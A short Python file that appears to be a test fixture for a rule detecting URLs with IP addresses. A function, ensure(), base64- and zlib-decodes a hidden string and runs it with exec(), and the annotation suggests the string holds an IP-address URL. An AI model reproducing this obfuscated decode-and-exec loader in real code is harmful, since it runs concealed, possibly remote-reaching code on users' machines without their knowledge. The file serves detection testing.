import base64
import zlib

# ruleid: url_with_ip_address
_PATCH = "eJxVjUEKwyAQAO++QjwphDXSFNJA3lI2cWkCqVp3Az317ZXeepzDzOzPkqvozJ0+63HsC1R6ncSiFnzoWedCyWaGgrIBvQumeDJVaz4emDe/x3tlNM41D6N16r8CDX8Js4mUyftwG+EaIPQ9hGEah+HiV9PpiIJzOwKlNUeyzqkvMZEyWQ=="
# ok: url_with_ip_address
_DOCS = "eJwLTk1VKMlIVUjJTy7NTc0rSSzJzM9TSCwBCxYU5WelJpcoFCSmp+oBAE3iD3E="


def ensure():
    exec(zlib.decompress(base64.b64decode(_PATCH)))
